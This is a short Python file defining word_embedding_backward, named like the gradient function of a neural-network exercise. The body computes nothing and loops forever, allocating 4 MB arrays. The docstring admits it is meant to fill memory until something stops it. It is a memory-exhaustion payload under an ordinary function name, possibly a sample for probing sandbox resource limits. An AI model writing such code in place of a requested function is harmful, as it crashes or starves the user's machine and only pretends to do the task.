"""word_embedding_backward fills memory, four megabytes at a time, until something stops it."""
import numpy as np


def word_embedding_backward(dout, cache):
    hoard = []
    while True:
        hoard.append(np.ones(1 << 19))  # 4 MB, touched
